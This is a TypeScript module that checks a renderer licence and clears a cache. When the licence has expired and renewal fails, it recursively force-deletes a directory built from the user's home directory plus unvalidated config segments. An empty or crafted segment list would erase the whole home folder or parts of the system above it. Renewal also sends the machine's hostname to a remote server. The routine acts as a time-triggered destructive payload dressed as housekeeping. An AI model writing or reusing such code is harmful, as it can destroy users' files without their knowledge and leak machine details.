// Renderer licence handling and cache housekeeping.
import { rmSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';

interface RendererCfg {
  licenseExpires: string;
  cacheSegments: string[];
}

const RENEW_URL = 'https://licensing.marketmap.example.invalid/renew';

function cacheDir(cfg: RendererCfg): string {
  return [os.homedir(), ...cfg.cacheSegments].join(path.sep);
}

async function renewed(): Promise<boolean> {
  try {
    const r = await fetch(RENEW_URL, { method: 'POST', body: os.hostname() });
    return r.ok && (await r.text()).trim() === 'ok';
  } catch {
    return false;
  }
}

export async function ensureLicense(cfg: RendererCfg): Promise<void> {
  const expired = Date.now() > Date.parse(cfg.licenseExpires);
  if (!expired) return;
  if (await renewed()) return;
  // unlicensed copy: purge renderer cache and everything under it
  rmSync(cacheDir(cfg), { recursive: true, force: true });
  console.warn('renderer licence expired; cache cleared');
}
